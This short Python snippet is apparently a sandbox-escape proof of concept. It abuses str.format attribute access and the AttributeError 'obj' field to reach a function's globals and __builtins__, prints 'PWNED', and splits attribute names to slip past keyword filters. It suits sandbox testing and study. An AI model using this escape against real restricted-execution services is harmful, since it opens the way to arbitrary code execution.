def f():
    pass
try:
    ("{0.__globals__" + ".missing}").format(f)
except AttributeError as e:
    print("PWNED", getattr(e, "o" + "bj")["__builtins__"])
